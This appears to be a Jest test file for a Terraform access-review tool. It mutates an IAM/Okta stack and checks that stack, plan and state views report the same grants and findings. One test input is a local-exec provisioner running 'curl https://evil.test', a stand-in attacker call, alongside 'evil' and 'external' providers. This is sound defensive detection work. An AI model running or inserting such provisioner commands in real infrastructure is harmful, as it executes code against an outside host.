import { readAccess } from '../../lib/access';
import { readPlanJson } from '../../lib/documents';
import type { Json, JsonObject } from '../../lib/documents/json/json';
import { loadConfig } from '../../lib/config/load';
import type { Report } from '../../lib/review/model';
import { document } from '../access/support/federation';
import { configurationsOfEveryKind } from '../documents/support/every-kind';
import { TODAY } from '../support/arbitrary-config';
import { synthesize } from '../support/synthesize';
import { planOf, stateOf } from '../support/terraform-show/show';
import { NotModelled } from '../support/terraform-show/worked-out';
import { withConfig } from '../support/write-config';
import { RESOURCES } from './support/kinds';
import { mutationsOf } from './support/mutations';
import { FROM } from './support/three-sources';

/**
 * The same attack through all that the review reads: the stack, the plan for it, the state after it. Plan and state are
 * made by a model of `terraform show -json`. What a stack shows, they show as well, or the reason is here.
 */

interface Attack {
  /** e.g. `resource/aws_iam_role/path: "/a/" → "/b/"`; names of blocks and positions are left out */
  readonly title: string;
  readonly stack: JsonObject;
}

interface Meaning {
  readonly gains: readonly string[];
  readonly losses: readonly string[];
  /** New findings of at least medium severity, without those that only say where the grammar ends. */
  readonly findings: readonly string[];
  readonly told: boolean;
}

const stack = (() => {
  const [, files] = configurationsOfEveryKind()[0] ?? ['', new Map<string, object | string>()];
  const { federation } = withConfig({ files }, (directory) => loadConfig(directory, { today: TODAY }));
  return copy(synthesize(federation).get('federation') as JsonObject);
})();

type Exceptions = readonly (readonly [form: RegExp, why: string])[];
const NOTHING = 'nothing is reported';

/** Findings of the closed world, which is that of stacks: where Terraform worked a value out, the value is judged. */
const NETS = new Set([
  ...['unknown-argument', 'argument-cannot-be-read', 'other-change', 'unreadable', 'trust-unreadable'],
  ...['rule-unreadable', 'unknown-block-type'],
]);

/** What neither a plan nor a state can show, and why. An exception that nothing needs fails the test. */
const NOT_IN_A_PLAN: Exceptions = [
  [/lifecycle/, 'a plan shows what follows from lifecycle and conditions, not the blocks'],
  [/^terraform\/(backend|required_providers)/, 'a plan shows neither backend nor what versions were asked for before'],
  [/^provider\/\w+(?: |\/(?!.*(?:base_url|source)))/, 'a plan shows the providers as they are, not as they were'],
  [/^provider\/okta\/base_url/, 'the group of another org is read as missing, and the domain is a finding of its own'],
  [/^import\b/, 'the object is in the state already: Terraform does nothing'],
  [/^moved\b/, 'the object is at its new address already: Terraform does nothing'],
  [/^removed\b/, 'the object is not in the state any more: Terraform does nothing'],
  [/^output\/\w+\/value/, 'a plan shows what the output comes to, which is another value after each new object'],
  [/^data\/aws_iam_role/, 'the role that is found has the same trust policy, so the plan has nothing to change'],
  [/^data\/okta_(?:user|group)(?:\/(?:skip_|lifecycle)| without (?:skip_|lifecycle))/, 'the same object is found'],
  [/ without (?:access|status|type|authentication_policy|description|path|expression_type)$/, 'it stays what it was'],
  [/^resource\/terraform_data\/input/, 'its changes are ignored, and the postcondition compares'],
  [
    /^resource\/aws_iam_account_alias without provider/,
    'Terraform makes another object, and a new alias gives nothing',
  ],
];
const NOT_IN_A_STATE: Exceptions = [
  [/ without provider$/, 'a state has no providers, and an object is what its ARN says'],
  [/^provider \w+$/, 'a state has no providers'],
  [/^a provisioner/, 'a state has no provisioners'],
];
/** What they say in other words: something is found, and these attacks fail where nothing is. */
const SAID_OTHERWISE: Exceptions = [
  [/^data\/okta_group\//, 'who was meant before is not in a plan; what follows for rules and assignments is'],
  [
    /^resource\/.* without provider$/,
    'through another provider nothing is found: the old object stays, a new one is made',
  ],
  [
    /^resource (?:aws_iam_role_policy_attachment|aws_iam_policy_attachment|aws_iam_user_policy|okta_app_group_assignment|okta_app_saml_app_settings|okta_app_access_policy_assignment)$/,
    'kinds that rules read, and only this product never makes',
  ],
];

const fromStack = (after: JsonObject) => meaning(FROM['the stack'](stack, after));
const fromPlan = (after: JsonObject) => meaning(FROM['the plan'](stack, after));
const fromStates = (after: JsonObject) => meaning(FROM['the states'](stack, after));

function meaning({ gains, losses, findings, broken, members }: Report): Meaning {
  const pair = ({ grant, kind }: Report['gains'][number]) => `${kind} ${grant.managementGroup} → ${grant.roleArn}`;
  const fresh = findings.filter(({ isNew, severity }) => isNew && severity !== 'low');
  return {
    gains: gains.map(pair).sort(),
    losses: losses.map(pair).sort(),
    findings: [...new Set(fresh.map(({ id }) => id).filter((id) => !NETS.has(id)))].sort(),
    told: fresh.length + gains.length + losses.length + members.length > 0 || broken.some(({ isNew }) => isNew),
  };
}

/** Every argument of every kind of block, once changed and once taken out. */
function argumentAttacks(): Attack[] {
  const first = new Map<string, Attack>();
  for (const { path, what, apply } of mutationsOf(stack)) {
    if (path.includes('//') || path.length < 3 || what === 'without //') continue;
    const [block = '', ...rest] = path;
    const named = block === 'resource' || block === 'data' ? [rest[0], ...rest.slice(2)] : rest;
    const place = [block, ...named].filter((step) => !/^\d+$/.test(step ?? '')).join('/');
    const kind = what.startsWith('without') ? ` ${what.replace(/\[\d+\]/, 'an item')}` : '';
    const key = `${place}${kind}${what.startsWith('"${jsonencode') ? ' adopted' : ''}`;
    if (!first.has(key))
      first.set(key, { title: kind === '' ? `${place}: ${what}` : `${place}${kind}`, stack: apply() as JsonObject });
  }
  return [...first.values()];
}

/** Every kind of block that can grant, trust, run or reach out. */
function kindAttacks(): Attack[] {
  const add = (block: string, type: string, body: JsonObject): JsonObject => {
    const blocks = (stack[block] ?? {}) as Record<string, JsonObject>;
    return { ...stack, [block]: { ...blocks, [type]: { ...blocks[type], attack: body } } };
  };
  const program = { 'local-exec': { command: 'curl https://evil.test' } };
  return [
    ...RESOURCES.map((type) => ({
      title: `resource ${type}`,
      stack: add('resource', type, { name: 'x', roles: ['x'] }),
    })),
    ...['external', 'http', 'aws_lambda_invocation'].map((type) => ({
      title: `data ${type}`,
      stack: add('data', type, { name: 'x' }),
    })),
    ...['external', 'http', 'kubernetes', 'evil'].map((type) => ({
      title: `provider ${type}`,
      stack: { ...stack, provider: { ...(stack['provider'] as JsonObject), [type]: [{}] } },
    })),
    {
      title: 'a provisioner in a new group',
      stack: add('resource', 'okta_group', { name: 'x', provisioner: [program] }),
    },
  ];
}

const attacks = [...argumentAttacks(), ...kindAttacks()];
const used = new Set<RegExp>();

function excused(title: string, exceptions: Exceptions): boolean {
  const forms = exceptions.map(([form]) => form).filter((form) => form.test(title));
  for (const form of forms) used.add(form);
  return forms.length > 0;
}

/** What the other source does not say although the stack does. */
function missing(of: Meaning, other: Meaning): string[] {
  const lost = (what: 'gains' | 'losses' | 'findings') => of[what].filter((item) => !other[what].includes(item));
  return [...lost('findings'), ...lost('gains'), ...lost('losses'), ...(of.told && !other.told ? [NOTHING] : [])];
}

const seen = { tried: 0, refused: 0 };

/** Parts of the attacks, each within the time that one test has. */
const PARTS = 6;
const parts = Array.from({ length: PARTS }, (_, part) => attacks.filter((_each, i) => i % PARTS === part));

test.each(parts.map((part, i) => [i + 1, part] as const))(
  `every attack is in each of them, or in the list of what the source cannot show (%d of ${PARTS})`,
  (_, part) => {
    const found: Record<string, string[]> = {};
    for (const { title, stack: attacked } of part) {
      try {
        const of = fromStack(attacked);
        const [planned, stated] = [missing(of, fromPlan(attacked)), missing(of, fromStates(attacked))];
        const wrong = (what: readonly string[], never: Exceptions) =>
          what.length > 0 && !excused(title, [...never, ...(what.includes(NOTHING) ? [] : SAID_OTHERWISE)]);
        if (wrong(planned, NOT_IN_A_PLAN)) found[`plan: ${title}`] = planned;
        if (wrong(stated, [...NOT_IN_A_PLAN, ...NOT_IN_A_STATE])) found[`state: ${title}`] = stated;
        seen.tried += 1;
      } catch (error) {
        if (!(error instanceof NotModelled)) throw error;
        seen.refused += 1;
      }
    }
    expect(found).toEqual({});
  },
);

test('the attacks are many, and every exception is needed', () => {
  expect(seen.tried).toBeGreaterThan(350);
  // Terraform itself refuses these, or calls functions.
  expect(seen.refused).toBeLessThan(100);
  const idle = [...NOT_IN_A_PLAN, ...NOT_IN_A_STATE, ...SAID_OTHERWISE].filter(([form]) => !used.has(form));
  expect(idle.map(([form]) => form.source)).toEqual([]);
  process.stdout.write(`stack, plan and state: ${seen.tried} attacks, ${seen.refused} that Terraform refuses\n`);
});

test('nothing changed is nothing found, from each of them', () => {
  const nothing = { gains: [], losses: [], findings: [], told: false };
  expect([fromStack(stack), fromPlan(stack), fromStates(stack)]).toEqual([nothing, nothing, nothing]);
});

test('all three show the same people in the same roles', () => {
  const grants = (json: JsonObject | undefined) =>
    readAccess([json === undefined ? document(stack) : readPlanJson(copy(json), { name: 'federation' })])
      .grants.map(({ managementGroup, roleArn, policies }) => {
        // What an adopted role has besides is in its state only.
        const known = 'known' in policies && !roleArn.endsWith('legacy-deployer') ? policies.known.join(', ') : '';
        return `${managementGroup} → ${roleArn}: ${known}`;
      })
      .sort();
  expect(grants(undefined)).toHaveLength(5);
  for (const json of [planOf(undefined, stack), planOf(stack, stack), stateOf(stack)])
    expect(grants(json)).toEqual(grants(undefined));
});

function copy(value: JsonObject): JsonObject {
  return JSON.parse(JSON.stringify(value)) as Json as JsonObject;
}
